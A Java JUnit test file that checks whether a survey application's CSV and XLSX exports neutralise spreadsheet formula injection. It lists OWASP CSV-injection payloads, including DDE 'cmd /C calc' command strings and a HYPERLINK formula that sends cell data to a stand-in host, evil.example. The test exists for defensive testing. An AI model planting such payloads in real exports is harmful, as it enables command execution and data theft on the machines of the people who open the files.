package org.chorus.survey.export;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.Test;

/**
 * OWASP's "CSV Injection" payloads typed into a free-text answer come out of CSV and XLSX exports as text a
 * spreadsheet will not evaluate, while a numeric column (a rating) keeps its bare number.
 */
class FormulaInjectionTest {

    /** OWASP's examples, the same with a leading blank or line feed, and the full-width forms Excel folds to ASCII. */
    private static final List<String> PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: please click for further information\")",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "-1+cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "\n-3+3+cmd|' /C calc'!D2",
            "\t=1+1",
            "\r=1+1",
            " =1+1",
            "-3",
            "+44 20 7946 0000",
            "＝cmd|' /C calc'!A0",
            "＋cmd|' /C calc'!A0",
            "－2+3+cmd|' /C calc'!A0",
            "＠SUM(1+9)*cmd|' /C calc'!A0");
    private static final List<CellKind> KINDS = List.of(CellKind.TEXT, CellKind.NUMBER);

    @Test
    void everyPayloadInATextColumnIsReadAsTextFromCsv() throws IOException {
        List<List<String>> cells = csv(rows());
        for (int i = 0; i < PAYLOADS.size(); i++) {
            assertEquals("'" + PAYLOADS.get(i), cells.get(i + 1).get(0), "payload " + i);
        }
        assertEquals(PAYLOADS.size() + 1, cells.size());
    }

    @Test
    void everyPayloadInATextColumnIsReadAsTextFromXlsx() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        write(new XlsxRowWriter(out, KINDS), rows());
        List<List<String>> cells = SheetReader.rows(out.toByteArray());
        for (int i = 0; i < PAYLOADS.size(); i++) {
            assertEquals("'" + PAYLOADS.get(i), SheetReader.cell(cells.get(i + 1), 0), "payload " + i);
        }
        assertEquals(PAYLOADS.size() + 1, cells.size());
    }

    @Test
    void onlyANumericColumnKeepsABareNumber() throws IOException {
        List<List<String>> cells = csv(List.of(List.of("-3", "-3"), List.of("4.5", "4.5"),
                List.of("-1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0"), List.of("=1", "=1")));
        assertEquals(List.of("'-3", "-3"), cells.get(1));
        assertEquals(List.of("4.5", "4.5"), cells.get(2));
        assertEquals(List.of("'-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"), cells.get(3));
        assertEquals(List.of("'=1", "'=1"), cells.get(4));
    }

    private static List<List<String>> rows() {
        List<List<String>> rows = new ArrayList<>();
        PAYLOADS.forEach(p -> rows.add(List.of(p, "5")));
        return rows;
    }

    private static List<List<String>> csv(List<List<String>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        write(new CsvRowWriter(out, KINDS), rows);
        String csv = out.toString(StandardCharsets.UTF_8).substring(1);
        return CSVFormat.EXCEL.parse(new StringReader(csv)).getRecords().stream().map(r -> r.toList()).toList();
    }

    private static void write(RowWriter writer, List<List<String>> rows) throws IOException {
        writer.header(List.of("answer", "rating"));
        for (List<String> row : rows) {
            writer.row(row);
        }
        writer.finish();
    }
}
